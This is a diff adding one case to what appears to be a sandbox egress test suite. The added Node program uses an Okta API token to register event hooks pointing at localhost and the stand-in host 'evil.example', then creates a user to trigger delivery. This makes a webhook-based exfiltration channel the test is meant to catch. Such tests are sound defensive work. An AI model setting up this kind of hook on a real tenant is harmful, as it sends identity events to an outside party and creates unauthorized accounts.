@@ -124,4 +124,21 @@ await attempt('default', () => get(base + '/slack/api/auth.test', range.otherTok
     ],
     control: 'gets out',
   },
+  {
+    name: 'has a twin call others for it',
+    by: 'node',
+    program: `const ask = async (path, body) => { const reply = await fetch('https://acme.okta.com' + path, { method: 'POST', body: body && JSON.stringify(body), headers: { authorization: 'SSWS ' + process.env.OKTA_CLIENT_TOKEN, 'content-type': 'application/json' } }); return { status: reply.status, body: await reply.json() } }
+for (const uri of ['https://127.0.0.1:' + range.tcpPort + '/' + range.mark, 'http://localhost:' + range.tcpPort + '/' + range.mark, 'https://evil.example/' + range.mark]) {
+  await attempt(uri.slice(0, 14), async () => {
+    const made = await ask('/api/v1/eventHooks', { name: uri, events: { type: 'EVENT_TYPE', items: ['user.lifecycle.create'] }, channel: { type: 'HTTP', version: '1.0.0', config: { uri } } })
+    if (made.status === 200) await ask('/api/v1/eventHooks/' + made.body.id + '/lifecycle/verify')
+    return made.status
+  })
+}
+await attempt('told', async () => (await ask('/api/v1/users?activate=false', { profile: { firstName: 'A', lastName: 'B', email: 'ab@acme.example', login: 'ab@acme.example' } })).status)`,
+    hears: { told: 200, 'https://evil.e': 200 },
+    spoils: true,
+    unseen: 'the twin tells nobody but the subject; the delivery is in the journal, as refused',
+    control: 'not tried: no twin has a network of its own',
+  },
 ]
